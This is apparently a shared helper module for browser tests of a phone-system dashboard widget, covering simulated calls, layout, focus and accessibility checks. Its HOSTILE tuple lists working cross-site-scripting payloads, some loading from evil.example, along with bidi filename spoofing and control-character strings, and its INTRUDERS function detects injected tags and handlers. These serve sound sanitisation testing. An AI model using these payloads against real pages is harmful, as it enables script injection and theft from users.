"""What the board's browser tests share: the notebook, what the page tells of itself, hostile texts."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from typing import Any

SETUP = """
import asyncio, ipywidgets, pbxnb
from pbxnb.widgets import Rule
if "pbx" not in globals():
    pbx = await pbxnb.simulate("office", extensions={extensions}, seed=3)
    sim = pbx.simulator
    await pbx.until(lambda p: p.orbits, timeout=60)
    people = [a.number for a in pbx.extensions.where(registered=True) if not a.calls][:16]
    calls = [sim.place_call(a, b) for a, b in zip(people[:6], people[6:12])]
    calls.append(sim.place_call("+1 555 0100", people[12], name="محمد علي"))
    calls.append(sim.place_call("+44 20 7946 0018", people[13]))
    for call in calls[:5]:
        sim.answer(call)
    sim.answer(calls[6])
    sim.hold(calls[1], people[1]); sim.record(calls[2]); sim.park(calls[6], next(iter(pbx.orbits)), people[12])
    sim.set_dnd(people[0]); sim.set_dnd(people[15])
    await pbx.until(lambda p: set(calls) <= set(p.calls) and p.extensions[people[15]].dnd, timeout=60)
"""
BOARD = """
rules = [Rule.waiting(orange=1, red=300), Rule.held(orange=1, red=2), Rule.peak(orange=5000)]
board = pbx.dashboard(alerts=rules)
board
"""
TILE = ".pbx-dashboard [data-number]"
OVERFLOW = """() => [...document.querySelectorAll('.pbx-dashboard, .pbx-dashboard .pbxnb')]
    .filter(e => e.scrollWidth > e.clientWidth + 1).map(e => `${e.className}: ${e.scrollWidth} > ${e.clientWidth}`)"""
FOCUS = """() => { const e = document.activeElement, board = e?.closest('.pbx-dashboard');
    if (!board) return null;
    const s = getComputedStyle(e), {number, call, command, part} = e.dataset;
    const seen = (s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) > 0) || s.boxShadow !== 'none';
    const label = (e.getAttribute('aria-label') || e.textContent || e.placeholder || '').slice(0, 60);
    return {what: number ? 'tile' : call ? 'call' : command || part || e.type || e.tagName, seen, label}; }"""
INTRUDERS = """() => { const bad = [];
    const tags = /^(script|iframe|object|embed|img|base|meta|form|link|math|video|mjx-.*)$/i;
    const links = /^(xlink:)?(href|src|(form)?action)$/i;
    for (const e of document.querySelectorAll('.pbxnb *, .pbxnb-static *')) {
        if (tags.test(e.tagName)) bad.push(`${e.tagName} in ${e.parentElement.className}`);
        for (const {name, value} of e.attributes)
            if (/^on/i.test(name) || (links.test(name) && /^\\s*javascript:/i.test(value)))
                bad.push(`${e.tagName} ${name}`);
    }
    return bad; }"""

_HIT = "window.__hit=(window.__hit||0)+1"
HOSTILE = (
    f"<script>{_HIT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{_HIT}</SCRIPT>",
    f"<img src=x onerror={_HIT}>",
    f"<img/src='//evil.example/p.png'/onload='{_HIT}'>",
    f"<svg onload={_HIT}>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<math><mtext></mtext><script>{_HIT}</script></math>",
    f"javascript:{_HIT}",
    f"<a href=\"javascript:{_HIT}\">call me</a>",
    f'"><b onmouseover="{_HIT}">over',
    f"' autofocus onfocus='{_HIT}' x='",
    f"<details open ontoggle={_HIT}>",
    f"<iframe srcdoc='<script>parent.{_HIT}</script>'>",
    f"<body onload={_HIT}>",
    f"<video><source onerror={_HIT}></video>",
    f"<form><button formaction=javascript:{_HIT}>go</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"</textarea></title></style><script>{_HIT}</script>",
    f"${{{_HIT}}} {{{{constructor.constructor('{_HIT}')()}}}}",
    f"$\\href{{javascript:{_HIT}}}{{x}}$",
    f"%3Cscript%3E{_HIT}%3C/script%3E &lt;script&gt;{_HIT}&lt;/script&gt;",
    "Ann\u202etxt.exe\u202c \u2066isolated \u2067rtl",
    "line\r\nbreak\x00\x1b[31mred\u2028para\u2029",
    "Z" + "\u0301\u0489" * 400,
    "x" * 100_000,
    "محمد علي",
)  # fmt: skip


def axe() -> Path | None:
    """The audit's script; None where its package is not installed."""
    found = importlib.util.find_spec("axe_playwright_python")
    return Path(found.origin).parent / "axe.min.js" if found is not None and found.origin else None


def serious(page: Any, where: str) -> list[str]:
    """What the audit finds there that keeps somebody out; nothing where its package is not installed."""
    script = axe()
    if script is None:
        return []
    page.add_script_tag(content=script.read_text(encoding="utf-8"))
    found = page.evaluate("async (where) => (await axe.run(where, {resultTypes: ['violations']})).violations", where)
    return [
        f"{one['id']}: {node['html'][:160]} {node['failureSummary']}"
        for one in found
        if one["impact"] in ("serious", "critical")
        for node in one["nodes"][:3]
    ]


def quiet(opened: Any) -> None:
    """Nothing went wrong in the page, and it asked nobody outside."""
    assert not opened.errors, opened.errors
    assert opened.offsite == []
